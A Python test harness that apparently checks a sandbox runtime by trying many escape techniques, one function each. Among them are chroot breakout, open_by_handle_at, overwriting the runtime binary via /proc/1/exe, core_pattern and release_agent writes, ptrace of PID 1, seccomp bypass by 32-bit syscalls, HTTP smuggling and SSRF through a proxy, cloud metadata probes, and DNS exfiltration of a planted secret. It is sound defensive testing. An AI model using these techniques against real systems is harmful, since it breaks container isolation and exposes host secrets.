"""Attempts to get out of a sandbox, one function each. Run inside as root of the sandbox:

    attempts.py NAME FACTS      FACTS: a file with the JSON of what the host planted (see world.rs)
    attempts.py --list

An attempt returns a sentence about what it reached, or None. An OSError is a refusal. The last line printed is a JSON
object: {"reached": sentence or null, "how": how it was refused}. Attempts that end their process by a signal
are refused too; the harness sees the signal."""

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import platform
import resource
import socket
import stat
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
IS_X86 = platform.machine() == "x86_64"
ATTEMPTS = {}
F = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def syscall(number, *arguments):
    """Raises OSError as Python's own calls do."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


# Numbers are those of x86-64, and of aarch64 where they differ.
def nr(x86, arm):
    return x86 if IS_X86 else arm


def mount(source, target, kind, flags=0, data=None):
    encode = lambda text: None if text is None else text.encode()
    if LIBC.mount(encode(source), encode(target), encode(kind), ctypes.c_ulong(flags), encode(data)) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def scratch(name):
    path = f"/tmp/escape-{os.getpid()}-{name}"
    os.makedirs(path, exist_ok=True)
    return path


def reads_secret(path):
    with open(path, "rb") as file:
        if F["secret"].encode() in file.read(1 << 20):
            return f"read the host's secret through {path}"


def first(*works):
    """The first sentence of several tries; refused only when all are."""
    refusal = None
    for work in works:
        try:
            sentence = work()
            if sentence:
                return sentence
        except OSError as error:
            refusal = refusal or error
    if refusal:
        raise refusal


def child(work):
    """Runs `work` in a child and gives its sentence."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            sentence = work() or ""
        except BaseException as error:  # told to the parent
            sentence = "" if isinstance(error, OSError) else f"!{error!r}"
        os.write(writer, sentence.encode())
        os._exit(0)
    os.close(writer)
    os.waitpid(pid, 0)
    text = os.read(reader, 4096).decode()
    if text.startswith("!"):
        raise RuntimeError(text)
    return text or None


# ---- files and mounts ----


@attempt
def a_host_file_by_its_path():
    return reads_secret(F["secret_file"])


@attempt
def a_host_file_through_proc_1_root():
    return reads_secret("/proc/1/root" + F["secret_file"])


@attempt
def a_host_file_through_every_process_root_and_cwd():
    return first(*[lambda p=p: reads_secret(p + F["secret_file"]) for p in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd")])


@attempt
def a_host_file_by_leaving_a_chroot():
    def work():
        inner = scratch("jail")
        outside = os.open("/", os.O_RDONLY)
        os.chroot(inner)
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return reads_secret(F["secret_file"])

    return child(work)


@attempt
def a_host_file_through_inherited_descriptors():
    tries = []
    for name in os.listdir("/proc/self/fd"):
        descriptor = int(name)
        tries.append(lambda d=descriptor: os.open("../" * 40 + F["secret_file"].lstrip("/"), os.O_RDONLY, dir_fd=d) and f"descriptor {d} leads to the host")
    return first(*tries)


@attempt
def a_host_file_by_its_handle():
    """The way of the Docker `shocker` exploit."""
    for number in range(2, 64):
        handle = struct.pack("IiQ", 8, 1, number)
        buffer = ctypes.create_string_buffer(handle)
        descriptor = syscall(nr(304, 265), os.open("/", os.O_RDONLY), buffer, os.O_RDONLY)
        return f"opened inode {number} by handle as {descriptor}"


@attempt
def a_host_file_by_a_name_to_handle_round_trip():
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + b"\0" * 120)
    mount_id = ctypes.c_int()
    syscall(nr(303, 264), -100, ctypes.c_char_p(b"/etc/passwd"), buffer, ctypes.byref(mount_id), 0)
    descriptor = syscall(nr(304, 265), os.open("/", os.O_RDONLY), buffer, os.O_RDONLY)
    return f"opened a handle as {descriptor}"


@attempt
def host_paths_in_the_mount_table():
    table = open("/proc/self/mountinfo").read()
    return f"the mount table names {F['data']}" if F["data"] in table else None


@attempt
def another_sandboxs_workspace():
    return first(
        lambda: os.listdir(F["other_workspace"]) and "listed another workspace",
        lambda: os.listdir("/proc/1/root" + F["other_workspace"]) and "listed another workspace",
        lambda: os.listdir("/s/w/upper") and "listed the workspaces' own mount",
    )


@attempt
def the_sandboxs_own_upper():
    """What the runtime assembled its root from must be out of reach."""
    return first(*[lambda p=p: os.listdir(p) and f"{p} shows" for p in ["/s", "/b", "/s/w", "/s/0", "/proc/1/root/s"]])


@attempt
def bind_mount_of_the_root():
    mount("/", scratch("bind"), None, 4096)
    return "a bind mount was made"


@attempt
def a_fresh_proc():
    mount("proc", scratch("proc"), "proc")
    return "a new proc was mounted"


@attempt
def a_fresh_sysfs():
    mount("sysfs", scratch("sys"), "sysfs")
    return "a new sysfs was mounted"


@attempt
def a_fresh_overlay():
    base = scratch("overlay")
    for name in ["lower", "upper", "work", "merged"]:
        os.makedirs(f"{base}/{name}", exist_ok=True)
    mount("overlay", f"{base}/merged", "overlay", 0, f"lowerdir={base}/lower,upperdir={base}/upper,workdir={base}/work,userxattr")
    return "an overlay was mounted"


@attempt
def a_cgroup_file_system():
    return first(
        lambda: mount("cgroup", scratch("cg1"), "cgroup", 0, "memory") or "cgroup v1 was mounted",
        lambda: mount("cgroup2", scratch("cg2"), "cgroup2") or "cgroup v2 was mounted",
    )


@attempt
def a_release_agent():
    tries = []
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True):
        tries.append(lambda p=path: open(p, "w").write("/tmp/x") and f"wrote {p}")
    return first(*tries)


@attempt
def its_own_limits_raised():
    tries = []
    for name in ["memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max", "cgroup.procs"]:
        for path in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True):
            tries.append(lambda p=path: open(p, "w").write("-1") and f"wrote {p}")
    return first(*tries)


@attempt
def a_mask_unmounted():
    for path in [b"/proc/kcore", b"/proc/keys", b"/proc/sysrq-trigger", b"/sys/firmware"]:
        if LIBC.umount2(path, 2) == 0:
            return f"{path.decode()} was unmounted"
    raise OSError(ctypes.get_errno(), "umount2")


@attempt
def a_read_only_mount_made_writable():
    return first(*[lambda p=p: mount(None, p, None, 32 | 4096) or f"{p} was remounted" for p in ["/sys", "/dev", F["read_only"]]])


@attempt
def a_write_to_a_read_only_bind():
    path = F["read_only"]
    open(os.path.join(path, "escape") if os.path.isdir(path) else path, "a").write("x")
    return f"wrote to {path}"


@attempt
def the_new_mount_calls():
    return first(
        lambda: syscall(430, ctypes.c_char_p(b"tmpfs"), 0) and "fsopen",
        lambda: syscall(428, -100, ctypes.c_char_p(b"/"), 1) and "open_tree",
        lambda: syscall(429, -100, ctypes.c_char_p(b"/tmp"), -100, ctypes.c_char_p(b"/mnt"), 0) or "move_mount",
        lambda: syscall(442, -100, ctypes.c_char_p(b"/"), 0, ctypes.create_string_buffer(32), 32) or "mount_setattr",
        lambda: syscall(467, -100, ctypes.c_char_p(b"/"), 1, ctypes.create_string_buffer(32), 32) and "open_tree_attr",
    )


@attempt
def a_pivot_of_the_root():
    base = scratch("pivot")
    os.makedirs(base + "/old", exist_ok=True)
    syscall(nr(155, 41), ctypes.c_char_p(base.encode()), ctypes.c_char_p((base + "/old").encode()))
    return "pivot_root worked"


@attempt
def the_hosts_disk_as_a_device_node():
    path = scratch("nodes") + "/disk"
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*F["disk"]))
    with open(path, "rb") as disk:
        return f"read {len(disk.read(512))} bytes of the host's disk"


@attempt
def kernel_memory_as_a_device_node():
    path = scratch("nodes") + "/mem"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 1))
    with open(path, "rb") as memory:
        return f"read {len(memory.read(16))} bytes of memory"


@attempt
def a_device_node_in_the_workspace():
    path = "/workspace/escape-disk"
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*F["disk"]))
    with open(path, "rb") as disk:
        return f"read {len(disk.read(512))} bytes of the host's disk"


@attempt
def devices_of_the_host():
    allowed = {"null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "shm", "fd", "stdin", "stdout", "stderr", "mqueue"}
    extra = set(os.listdir("/dev")) - allowed
    return f"/dev also has {sorted(extra)}" if extra else None


@attempt
def fuse_loop_tun_and_kvm():
    return first(*[lambda p=p: os.open(p, os.O_RDWR) and f"opened {p}" for p in ["/dev/fuse", "/dev/loop-control", "/dev/net/tun", "/dev/kvm", "/dev/mapper/control", "/dev/vhost-net"]])


# ---- /proc and /sys ----


def writes(path, text):
    with open(path, "w") as file:
        file.write(text)
    return f"wrote {path}"


@attempt
def the_core_pattern():
    return writes("/proc/sys/kernel/core_pattern", "|/tmp/x")


@attempt
def the_module_loader():
    return writes("/proc/sys/kernel/modprobe", "/tmp/x")


@attempt
def the_hotplug_helper():
    return first(lambda: writes("/sys/kernel/uevent_helper", "/tmp/x"), lambda: writes("/proc/sys/kernel/hotplug", "/tmp/x"))


@attempt
def sysrq():
    return writes("/proc/sysrq-trigger", "h") if os.path.getsize("/proc/sysrq-trigger") or not stat.S_ISCHR(os.stat("/proc/sysrq-trigger").st_mode) else None


@attempt
def global_sysctls():
    names = ["vm/overcommit_memory", "vm/drop_caches", "kernel/panic", "kernel/pid_max", "kernel/randomize_va_space", "fs/file-max", "fs/protected_symlinks", "kernel/unprivileged_bpf_disabled"]
    return first(*[lambda n=n: writes(f"/proc/sys/{n}", "1") for n in names])


@attempt
def binfmt_misc():
    return first(
        lambda: writes("/proc/sys/fs/binfmt_misc/register", ":x:M::XX::/tmp/x:"),
        lambda: mount("binfmt_misc", scratch("binfmt"), "binfmt_misc") or "binfmt_misc was mounted",
    )


@attempt
def interrupts_and_buses():
    paths = glob.glob("/proc/irq/*/smp_affinity") + glob.glob("/sys/bus/pci/rescan") + glob.glob("/sys/class/net/*/mtu") + glob.glob("/sys/block/*/queue/scheduler") + ["/sys/power/state"]
    return first(*[lambda p=p: writes(p, "1") for p in paths])


@attempt
def kernel_memory_by_kcore():
    with open("/proc/kcore", "rb") as core:
        return "read the kernel's memory" if core.read(64) else None


@attempt
def kernel_addresses():
    with open("/proc/kallsyms") as symbols:
        known = [line for line in symbols.read(1 << 16).splitlines() if line.split()[0].strip("0")]
    return f"{len(known)} kernel addresses are shown" if known else None


@attempt
def the_kernel_log():
    buffer = ctypes.create_string_buffer(4096)
    return first(
        lambda: syscall(nr(103, 116), 3, buffer, 4096) and "read the kernel's log",
        lambda: open("/proc/kmsg", "rb").read(1) and "read /proc/kmsg",
        lambda: os.open("/dev/kmsg", os.O_RDWR) and "opened /dev/kmsg",
    )


@attempt
def keys_of_others():
    text = open("/proc/keys").read()
    return f"/proc/keys shows {len(text)} bytes" if text else None


@attempt
def firmware_and_debug_files():
    names = [p for d in ["/sys/firmware", "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/fs/pstore"] if os.path.isdir(d) for p in os.listdir(d)]
    return f"sees {names}" if names else None


@attempt
def protection_from_the_oom_killer():
    return writes("/proc/self/oom_score_adj", "-1000")


# ---- processes ----


@attempt
def a_host_process_by_its_id():
    name = open(f"/proc/{F['host_pid']}/cmdline").read()
    return f"sees the host's process {name!r}" if F["host_marker"] in name else None


@attempt
def host_processes_in_proc():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path) as line:
                text = line.read()
        except (FileNotFoundError, ProcessLookupError):
            continue  # It ended meanwhile.
        if F["host_marker"] in text or F["other_marker"] in text:
            return f"sees {text!r}"


@attempt
def a_signal_to_a_host_process():
    os.kill(F["host_pid"], 0)
    return None if os.path.exists(f"/proc/{F['host_pid']}") else "a hidden process took a signal"


@attempt
def tracing_of_stage():
    syscall(nr(101, 117), 16, 1, 0, 0)  # PTRACE_ATTACH
    return "stage is traced"


@attempt
def seizing_of_stage():
    syscall(nr(101, 117), 0x4206, 1, 0, 0)  # PTRACE_SEIZE
    return "stage is traced"


@attempt
def the_memory_of_stage():
    return first(
        lambda: os.open("/proc/1/mem", os.O_RDWR) and "opened the memory of stage",
        lambda: open("/proc/1/maps").read() and "read the maps of stage",
        lambda: open("/proc/1/environ").read() and "read the environment of stage",
    )


@attempt
def the_memory_of_stage_by_process_vm_readv():
    target = ctypes.create_string_buffer(16)
    here = (ctypes.c_ulong * 2)(ctypes.addressof(target), 16)
    there = (ctypes.c_ulong * 2)(0x400000, 16)
    syscall(nr(310, 270), 1, here, 1, there, 1, 0)
    return "read the memory of stage"


@attempt
def the_descriptors_of_stage():
    return first(
        lambda: os.readlink("/proc/1/fd/0") and "looked at the control socket of stage",
        lambda: os.open("/proc/1/fd/0", os.O_RDWR) and "opened the control socket of stage",
        lambda: syscall(438, syscall(434, 1, 0), 0, 0) and "took the control socket of stage",
    )


@attempt
def the_program_of_stage_overwritten():
    """The way of CVE-2019-5736: the runtime's binary through /proc/PID/exe."""
    return first(
        lambda: os.open("/proc/1/exe", os.O_RDWR) and "opened the program of stage for writing",
        lambda: os.open("/proc/1/exe", os.O_RDONLY) and None,
    )


@attempt
def the_end_of_stage():
    """PID 1 takes no signal from inside that it does not want."""
    os.kill(1, 9)
    os.kill(1, 19)
    time.sleep(0.05)
    if not os.path.exists("/proc/1/stat"):
        return "stage ended"
    state = open("/proc/1/stat").read().rsplit(")", 1)[1].split()[0]
    return "stage stands still" if state in "TtZ" else None


@attempt
def comparing_kernel_objects():
    syscall(nr(312, 272), 1, os.getpid(), 0, 0, 0)
    return "kcmp answered"


@attempt
def real_time_priority():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "runs with real-time priority"


@attempt
def a_higher_priority():
    before = os.getpriority(os.PRIO_PROCESS, 0)
    os.setpriority(os.PRIO_PROCESS, 0, before - 5)
    return "runs before others"


@attempt
def higher_hard_limits():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1024, hard + 1024))
    return "raised its hard limit"


@attempt
def locked_memory():
    buffer = mmap.mmap(-1, 256 << 20)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    if LIBC.mlock(ctypes.c_void_p(address), ctypes.c_size_t(256 << 20)) != 0:
        raise OSError(ctypes.get_errno(), "mlock")
    return "locked 256 MiB"


# ---- namespaces, privileges, kernel calls ----


@attempt
def a_new_user_namespace():
    syscall(nr(272, 97), 0x10000000)
    return "made a user namespace"


@attempt
def other_new_namespaces():
    flags = {"mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}
    return first(*[lambda f=f, n=n: syscall(nr(272, 97), f) or f"made a {n} namespace" for n, f in flags.items()])


@attempt
def a_clone_into_a_user_namespace():
    pid = syscall(nr(56, 220), 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "cloned into a user namespace"


@attempt
def clone3_hides_its_flags():
    arguments = ctypes.create_string_buffer(struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0))
    pid = syscall(435, arguments, 64)
    if pid == 0:
        os._exit(0)
    return "clone3 made a user namespace"


@attempt
def a_namespace_of_another_process():
    tries = []
    for name in ["mnt", "net", "pid", "user", "ipc"]:
        tries.append(lambda n=name: syscall(nr(308, 268), os.open(f"/proc/1/ns/{n}", os.O_RDONLY), 0) or f"entered {n}")
    tries.append(lambda: syscall(nr(308, 268), syscall(434, 1, 0), 0x20000) or "entered by pidfd")
    return first(*tries)


@attempt
def setuid_gives_nothing():
    """A set-user-id program keeps the caller's id under no_new_privs."""

    def work():
        path = "/workspace/escape-id"
        with open("/usr/bin/id", "rb") as source, open(path, "wb") as copy:
            copy.write(source.read())
        os.chmod(path, 0o4755)
        os.setgid(1000)
        os.setuid(1000)
        reader, writer = os.pipe()
        if os.fork() == 0:
            os.dup2(writer, 1)
            os.execv(path, [path, "-u"])
        os.close(writer)
        return "a set-user-id program became root" if os.read(reader, 64).strip() == b"0" else None

    return child(work)


@attempt
def file_capabilities_give_nothing():
    def work():
        path = "/workspace/escape-cap"
        with open("/bin/true", "rb") as source, open(path, "wb") as copy:
            copy.write(source.read())
        os.chmod(path, 0o755)
        # Version 2, effective, every capability.
        os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
        os.setgid(1000)
        os.setuid(1000)
        reader, writer = os.pipe()
        if os.fork() == 0:
            os.dup2(writer, 1)
            os.execv("/bin/cat", ["cat", "/proc/self/status"])
        os.close(writer)
        line = [l for l in os.read(reader, 1 << 16).decode().splitlines() if l.startswith("CapEff")][0]
        return f"has {line}" if int(line.split()[1], 16) else None

    return child(work)


@attempt
def dangerous_capabilities():
    held = int([l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1], 16)
    dangerous = {"DAC_READ_SEARCH": 2, "NET_ADMIN": 12, "SYS_MODULE": 16, "SYS_RAWIO": 17, "SYS_PTRACE": 19, "SYS_ADMIN": 21, "SYS_BOOT": 22, "SYS_NICE": 23, "SYS_RESOURCE": 24, "SYS_TIME": 25, "MAC_ADMIN": 33, "SYSLOG": 34, "PERFMON": 38, "BPF": 39}
    found = [name for name, bit in dangerous.items() if held >> bit & 1]
    return f"holds {found}" if found else None


@attempt
def no_new_privileges_are_set():
    status = open("/proc/self/status").read()
    return None if "NoNewPrivs:\t1" in status and "Seccomp:\t2" in status else "the locks are missing"


@attempt
def system_calls_of_another_architecture():
    """`int 0x80` enters by the 32-bit table, whose numbers a 64-bit filter does not know."""
    if not IS_X86:
        return None
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20 (getpid); int 0x80; ret

    def work():
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        result = call()
        return f"the 32-bit getpid answered {result}" if result > 0 else None

    return child(work)


@attempt
def system_calls_of_x32():
    return f"x32 getpid answered {syscall(0x40000000 | 39)}" if IS_X86 else None


@attempt
def io_uring():
    syscall(425, 8, ctypes.create_string_buffer(256))
    return "made a ring"


@attempt
def bpf():
    syscall(nr(321, 280), 0, ctypes.create_string_buffer(struct.pack("IIIII", 1, 4, 4, 1, 0) + b"\0" * 100), 120)
    return "made a map"


@attempt
def performance_counters():
    syscall(nr(298, 241), ctypes.create_string_buffer(struct.pack("II", 1, 128) + b"\0" * 120), 0, -1, -1, 0)
    return "opened a counter"


@attempt
def userfaultfd():
    syscall(nr(323, 282), 0)
    return "opened a userfaultfd"


@attempt
def keyrings():
    return first(
        lambda: syscall(nr(248, 217), ctypes.c_char_p(b"user"), ctypes.c_char_p(b"escape"), ctypes.c_char_p(b"x"), 1, -3) and "added a key",
        lambda: syscall(nr(250, 219), 0, -3, 0) and "found the session's keyring",
    )


@attempt
def kernel_modules():
    descriptor = os.open("/bin/true", os.O_RDONLY)
    return first(
        lambda: syscall(nr(313, 273), descriptor, ctypes.c_char_p(b""), 0) or "loaded a module",
        lambda: syscall(nr(175, 105), ctypes.create_string_buffer(16), 16, ctypes.c_char_p(b"")) or "loaded a module",
    )


@attempt
def another_kernel():
    return first(
        lambda: syscall(nr(246, 104), 0, 0, 0, 0) or "kexec",
        lambda: syscall(nr(320, 294), -1, -1, 0, ctypes.c_char_p(b""), 0) or "kexec_file",
    )


@attempt
def a_reboot():
    # RB_DISABLE_CAD changes nothing that matters where it works.
    syscall(nr(169, 142), 0xFEE1DEAD, 672274793, 0, 0)
    return "reboot answered"


@attempt
def swap_accounting_and_quotas():
    return first(
        lambda: syscall(nr(167, 224), ctypes.c_char_p(b"/tmp/x"), 0) or "swapon",
        lambda: syscall(nr(163, 89), ctypes.c_char_p(b"/tmp/x")) or "acct",
        lambda: syscall(nr(179, 60), 0x800001, ctypes.c_char_p(b"/dev/vda"), 0, 0) or "quotactl",
    )


@attempt
def the_clock():
    return first(
        lambda: syscall(nr(227, 112), 0, ctypes.create_string_buffer(struct.pack("qq", 0, 0))) or "set the clock",
        lambda: syscall(nr(164, 170), ctypes.create_string_buffer(16), 0) or "set the time",
    )


@attempt
def io_ports():
    return first(lambda: syscall(172, 3) or "iopl", lambda: syscall(173, 0x70, 2, 1) or "ioperm") if IS_X86 else None


@attempt
def watching_the_whole_file_system():
    syscall(nr(300, 262), 0, 0)
    return "fanotify was opened"


@attempt
def typing_into_a_terminal():
    master, slave = os.openpty()
    fcntl.ioctl(slave, 0x5412, b"x")  # TIOCSTI
    return "typed into a terminal"


@attempt
def the_host_name():
    before = socket.gethostname()
    socket.sethostname("escaped")
    socket.sethostname(before)
    return "changed the host name"


# ---- other sandboxes and host sockets ----


@attempt
def an_abstract_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + F["abstract"])
        return "connected to an abstract socket of the host"


@attempt
def an_abstract_socket_of_another_sandbox():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + F["other_abstract"])
        return "connected to another sandbox"


@attempt
def a_named_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(F["unix"])
        return "connected to a socket of the host"


@attempt
def shared_memory_of_another_sandbox():
    return first(
        lambda: syscall(nr(29, 194), F["ipc_key"], 4096, 0o600) >= 0 and "found another's shared memory",
        lambda: os.open("/dev/shm/" + F["other_shm"], os.O_RDWR) and "opened another's shared memory",
    )


@attempt
def sockets_beyond_the_namespace():
    families = {"vsock": 40, "alg": 38, "packet": 17, "bluetooth": 31, "can": 29, "xdp": 44, "key": 15, "rds": 21, "tipc": 30, "smc": 43}
    return first(*[lambda f=f, n=n: socket.socket(f, socket.SOCK_RAW if n in ("packet", "key") else socket.SOCK_STREAM, 0) and f"opened a {n} socket" for n, f in families.items()])


@attempt
def a_new_network_interface():
    """RTM_NEWLINK for a veth pair."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.bind((0, 0))
        kind = struct.pack("HH", 9, 1) + b"dummy\0\0\0"
        info = struct.pack("HH", 4 + len(kind), 18) + kind
        body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + info
        netlink.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        code = struct.unpack_from("i", netlink.recv(4096), 16)[0]
        if code != 0:
            raise OSError(-code, os.strerror(-code))
        return "made an interface"


@attempt
def interfaces_besides_loopback():
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    return f"has {names}" if names else None


# ---- network ----


def connects(address, port, request, family=socket.AF_INET):
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect((address, port))
        client.sendall(request)
        return client.recv(4096)


def answer_of_host(work):
    """An answer counts when it carries the word of the host's own server."""
    text = work()
    return f"the host's server answered {text[:60]!r}" if F["word"].encode() in text else None


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


@attempt
def the_control_planes_port():
    port = F["port"]
    return first(*[lambda a=a: answer_of_host(lambda: connects(a, port, get("localhost"))) for a in ["127.0.0.1", "127.0.0.2", "0.0.0.0", *F["host_addresses"]]])


@attempt
def the_control_plane_through_the_proxy():
    port = F["port"]
    tries = []
    for address in ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "017700000001", *F["host_addresses"]]:
        request = f"CONNECT {address}:{port} HTTP/1.1\r\nHost: {address}:{port}\r\n\r\n".encode() + get("localhost")
        tries.append(lambda r=request: answer_of_host(lambda: connects("127.0.0.1", 3128, r)))
        absolute = f"GET http://{address}:{port}/ HTTP/1.1\r\nHost: {address}:{port}\r\nConnection: close\r\n\r\n".encode()
        tries.append(lambda r=absolute: answer_of_host(lambda: connects("127.0.0.1", 3128, r)))
    return first(*tries)


@attempt
def the_control_plane_by_the_host_header():
    tries = [lambda h=h: answer_of_host(lambda: connects("192.0.2.1", 80, get(h))) for h in [f"127.0.0.1:{F['port']}", f"localhost:{F['port']}", f"[::1]:{F['port']}"]]
    return first(*tries)


@attempt
def cloud_metadata():
    names = ["169.254.169.254", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]"]
    tries = [lambda n=n: answer_of_host(lambda: connects("169.254.169.254", 80, get(n, "/latest/meta-data/"))) for n in names]
    tries += [lambda n=n: answer_of_host(lambda: connects("127.0.0.1", 3128, f"GET http://{n}/latest/meta-data/ HTTP/1.1\r\nHost: {n}\r\n\r\n".encode())) for n in names]
    return first(*tries)


@attempt
def a_name_that_is_rebound():
    """An allowed name whose address is the host's own."""
    tries = [
        lambda: answer_of_host(lambda: connects("192.0.2.1", 80, get(f"rebind.test:{F['port']}"))),
        lambda: answer_of_host(lambda: connects("127.0.0.1", 3128, f"CONNECT rebind.test:{F['port']} HTTP/1.1\r\n\r\n".encode() + get("rebind.test"))),
        lambda: answer_of_host(lambda: connects("127.0.0.1", 3128, f"GET http://rebind.test:{F['port']}/ HTTP/1.1\r\nHost: rebind.test\r\n\r\n".encode())),
    ]
    return first(*tries)


def hello(name):
    """A ClientHello with this server name."""
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    connection = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attempt
def a_server_name_that_is_not_allowed():
    return answer_of_host(lambda: connects("192.0.2.1", 443, hello("evil.test")))


@attempt
def an_allowed_server_name_at_a_chosen_address():
    """SNI says an allowed name, the address is the attacker's: the name's own address must be dialled."""
    tries = [lambda a=a: answer_of_host(lambda: connects(a, 443, hello("allowed.test"))) for a in F["host_addresses"] + ["127.0.0.1"]]
    return first(*tries)


@attempt
def a_tunnel_to_one_name_and_a_handshake_with_another():
    def work():
        with socket.create_connection(("127.0.0.1", 3128), 5) as client:
            client.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            first_answer = client.recv(4096)
            client.sendall(hello("evil.test"))
            return first_answer + client.recv(4096)

    return answer_of_host(work)


@attempt
def a_second_request_to_another_host():
    def work():
        with socket.create_connection(("192.0.2.1", 80), 5) as client:
            client.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + get("evil.test"))
            text = b""
            while piece := client.recv(4096):
                text += piece
            return text

    return answer_of_host(work)


@attempt
def a_smuggled_request():
    """Two lengths, two hosts: whoever reads the other length sees another request."""
    def work(header):
        body = get("evil.test")
        with socket.create_connection(("192.0.2.1", 80), 5) as client:
            client.sendall(b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\n%s\r\n\r\n0\r\n\r\n" % (5 + len(body), header) + body)
            text = b""
            while piece := client.recv(4096):
                text += piece
            return text

    headers = [b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding:\tchunked", b"Content-Length: 0"]
    return first(*[lambda h=h: answer_of_host(lambda: work(h)) for h in headers])


@attempt
def two_host_headers():
    request = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    absolute = b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    return first(lambda: answer_of_host(lambda: connects("192.0.2.1", 80, request)), lambda: answer_of_host(lambda: connects("192.0.2.1", 80, absolute)))


@attempt
def other_ports():
    tries = [lambda p=p: answer_of_host(lambda: connects("192.0.2.1", p, b"x\r\n\r\n")) for p in [25, 21, 23, 445, 3306, 5432, 6379, 8080, F["port"]]]
    tries.append(lambda: answer_of_host(lambda: connects("192.0.2.1", 22, b"SSH-2.0-x\r\n")))
    return first(*tries)


@attempt
def the_hosts_loopback_by_ipv6():
    port = F["port"]
    return first(*[lambda a=a: answer_of_host(lambda: connects(a, port, get("localhost"), socket.AF_INET6)) for a in ["::1", "::ffff:127.0.0.1", "fe80::1", "2001:db8::1"]])


@attempt
def datagrams():
    """UDP besides DNS has no way out, DNS answers carry nothing of the outside."""

    def ask(port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(1)
            client.sendto(b"ping", (F["host_addresses"][0] if F["host_addresses"] else "192.0.2.1", port))
            return client.recv(512)

    return first(*[lambda p=p: answer_of_host(lambda: ask(p)) for p in [F["udp_port"], 123, 443, 51820]])


@attempt
def data_in_dns_questions():
    """The names asked for must not leave the host; the harness looks whether its resolver saw this one."""
    try:
        socket.getaddrinfo(f"{F['secret']}.exfiltration.test", 80)
    except socket.gaierror:
        pass
    return None


def main():
    if sys.argv[1] == "--list":
        print(json.dumps(list(ATTEMPTS)))
        return
    with open(sys.argv[2]) as facts:
        F.update(json.load(facts))
    how = "it reached nothing"
    try:
        reached = ATTEMPTS[sys.argv[1]]()
    except ValueError as error:  # how `resource` says EPERM
        reached, how = None, str(error)
    except OSError as error:
        reached, how = None, errno.errorcode.get(error.errno, str(error))
    print(json.dumps({"reached": reached, "how": how}))


main()
